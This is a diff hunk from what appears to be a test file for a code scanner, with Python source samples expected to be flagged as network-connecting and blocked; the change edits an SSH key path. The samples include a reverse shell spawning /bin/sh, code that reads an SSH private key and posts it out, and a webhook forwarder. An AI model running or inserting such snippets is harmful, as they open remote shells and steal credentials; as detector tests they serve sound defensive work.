@@ -66,7 +66,7 @@ CONNECTS = ("source-connects", "block")
         ("import socket, subprocess, os\ndef go():\n    s = socket.socket()\n"
          "    s.connect(('127.0.0.1', 1))\n    os.dup2(s.fileno(), 0)\n"
          "    subprocess.call(['/bin/sh', '-i'])\ngo()\n", CONNECTS),
-        ("import requests\ndef f(x):\n    k = open('/root/.ssh/id_rsa').read()\n"
+        ("import requests\ndef f(x):\n    k = open('/home/app/.ssh/id_rsa').read()\n"
          "    requests.post('http://127.0.0.1', data=k)\n", CONNECTS),
         ("import requests\ndef forward(x):\n"
          "    requests.post('https://webhook.site/x', json=x)\n", CONNECTS),
